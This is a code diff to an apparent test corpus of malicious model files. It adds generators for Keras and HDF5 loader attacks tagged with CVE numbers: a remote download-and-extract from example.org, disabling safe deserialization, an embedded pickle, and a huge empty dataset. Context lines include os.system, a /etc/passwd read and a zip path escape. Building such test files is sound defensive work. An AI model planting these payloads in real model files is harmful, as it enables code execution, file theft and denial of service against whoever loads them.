@@ -3,6 +3,7 @@
 Each kind of published attack on loaders of models has its file here. Those whose number is known for
 sure are named by it.
 """
+import base64
 import io
 import json
 import os
@@ -164,14 +165,29 @@ ATTACKS = {
     "module and class by name, CVE-2025-1550": lambda path: keras(
         path, kind="function", module="os", registered_name="system",
         config={"args": ["mkdir exploded"]}),
+    "download by a layer, CVE-2025-8747": lambda path: keras(
+        path, kind="Lambda", config={
+            "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
+                         "registered_name": "function"},
+            "arguments": {"origin": "https://example.org/exploded", "extract": True}}),
+    "safe mode turned off by the file, CVE-2025-9906": lambda path: keras(
+        path, kind="Lambda", config={
+            "function": {"module": "keras.config", "class_name": "function",
+                         "config": "enable_unsafe_deserialization",
+                         "registered_name": "function"}}),
+    "pickle within a layer, CVE-2025-49655": lambda path: keras(
+        path, kind="TorchModuleWrapper", config={
+            "module": base64.b64encode(TORCH).decode("ascii")}),
     "vocabulary in a file, CVE-2025-12058": lambda path: keras(
         path, kind="StringLookup", config={"vocabulary": "/etc/passwd"}),
     "custom object": lambda path: keras(path, kind="os>system", config={"command": "true"}),
     "Keras archive with a path out of it": lambda path: zipped(path, [
         ("../exploded", b"x"), ("config.json", b"{}"), ("model.weights.h5", b"\x89HDF")]),
     "ONNX external data, CVE-2022-25882 and CVE-2024-27318": onnx_external_data,
-    "HDF5 external storage": lambda path: replaced(
+    "HDF5 external storage, CVE-2026-1669": lambda path: replaced(
         path, lambda group, name: external_storage(group, name, path)),
+    "HDF5 data set that is stored nowhere, as in CVE-2026-0897": lambda path: replaced(
+        path, lambda group, name: group.create_dataset(name, (1 << 40,), "f4", chunks=(1 << 20,))),
     "HDF5 virtual data set": lambda path: replaced(
         path, lambda group, name: virtual(group, name, path)),
     "HDF5 external link": lambda path: replaced(
